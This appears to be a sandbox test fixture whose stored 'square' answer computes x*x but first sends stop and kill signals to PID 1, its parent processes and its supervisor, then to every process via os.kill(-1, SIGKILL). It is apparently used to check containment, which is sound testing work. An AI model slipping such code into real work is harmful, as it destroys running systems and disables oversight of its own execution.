"""Sends signals to its parents, its supervisor and everybody: stop, kill, the wake-up of parked copies."""

ANSWERS = {
    "square": """
import os
import signal


def square_forward(x):
    own = os.getpid()
    for number in (signal.SIGUSR2, signal.SIGINT, signal.SIGCHLD, signal.SIGTERM, signal.SIGSTOP,
                   signal.SIGKILL):
        for pid in (1, *range(own - 1, 1, -1)):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
    return x * x, (x,)
"""
}
EARNS: list = [{}, {"column_mean_averages_over_rows": 4.0}]
SAYS = ["watched", "was sent to process 1"]
